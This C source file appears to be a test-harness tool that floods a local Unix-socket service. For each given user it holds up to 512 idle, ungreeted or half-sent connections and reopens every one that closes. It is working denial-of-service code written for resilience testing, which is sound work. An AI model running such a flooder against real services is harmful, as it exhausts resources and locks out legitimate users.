// flooder SOCKET COUNT UID…: keeps up to COUNT hostile connections for each of many users, and opens them again whenever they end. A third are
// greeted and idle, a third never greet, and a third have begun a message that does not end. When each was attempted once, it prints how many
// were open for each user, and continues until its standard input ends. Started by root, it becomes each of these users.
#include "attacker.h"

enum { MAX = 512 };

// Like `connect_to`, but returns -1 if the connection is not accepted: the flood continues.
static int reach(const char *path) {
    int connection = socket(AF_UNIX, SOCK_STREAM, 0), on = 1;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    struct timeval time = {.tv_sec = 20};
    if (connection < 0 || setsockopt(connection, SOL_SOCKET, SO_PASSCRED, &on, sizeof on)) fail("socket");
    setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &time, sizeof time);
    setsockopt(connection, SOL_SOCKET, SO_SNDTIMEO, &time, sizeof time);
    if (!connect(connection, (struct sockaddr *)&address, sizeof address)) return connection;
    close(connection);
    return -1;
}

// A connection without a waiting program; -1 if it was closed without a message.
static int begin(const char *path, int kind) {
    static struct message hello;
    int connection = reach(path);
    if (connection < 0) return -1;
    if (kind == 1) {
        // The first message shows that it was accepted.
        struct pollfd poller = {.fd = connection, .events = POLLIN};
        char byte;
        if (poll(&poller, 1, 20000) == 1 && recv(connection, &byte, 1, MSG_PEEK) == 1) return connection;
        close(connection);
        return -1;
    }
    if (receive_message(connection, &hello) || greet(connection, &hello, 0, getpid(), 0)) { close(connection); return -1; }
    if (kind == 2 && send(connection, "\0\0\0", 3, MSG_NOSIGNAL) != 3) { close(connection); return -1; }
    return connection;
}

static void flood(const char *path, int count, uid_t uid, int report) {
    struct pollfd connections[MAX];
    int stood = 0;
    if (setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) fail("setresuid");
    // Makes itself readable as any program is; a process that changed its user is hidden from others.
    prctl(PR_SET_DUMPABLE, 1);
    // Only now, since changing the user resets this.
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (int index = 0; index < count; index++) {
        int connection = begin(path, index % 3);
        connections[index] = (struct pollfd){.fd = connection, .events = POLLRDHUP};
        stood += connection >= 0;
    }
    if (write(report, &stood, sizeof stood) != sizeof stood) fail("write");
    for (int next = 0;; next = (next + 1) % count) {
        poll(connections, count, 0);
        for (int index = 0; index < count; index++)
            if (connections[index].fd >= 0 && connections[index].revents) { close(connections[index].fd); connections[index].fd = -1; }
        // One attempt at a time, without a pause other than that of the socket.
        if (connections[next].fd < 0) connections[next].fd = begin(path, next % 3);
        else poll(connections, count, 10);
    }
}

int main(int words, char **word) {
    int count = words > 3 ? atoi(word[2]) : 0, users = words - 3, reports[MAX];
    if (count < 1 || count > MAX || users > MAX) return 64;
    for (int user = 0; user < users; user++) {
        int ends[2];
        if (pipe(ends)) fail("pipe");
        pid_t child = fork();
        if (child < 0) fail("fork");
        if (!child) { close(ends[0]); flood(word[1], count, atoi(word[3 + user]), ends[1]); }
        close(ends[1]);
        reports[user] = ends[0];
    }
    for (int user = 0; user < users; user++) {
        int stood = 0;
        if (read(reports[user], &stood, sizeof stood) != sizeof stood) stood = -1;
        printf("%s %d\n", word[3 + user], stood);
    }
    say("flooding");
    while (getchar() != EOF) {}
    return 0;
}
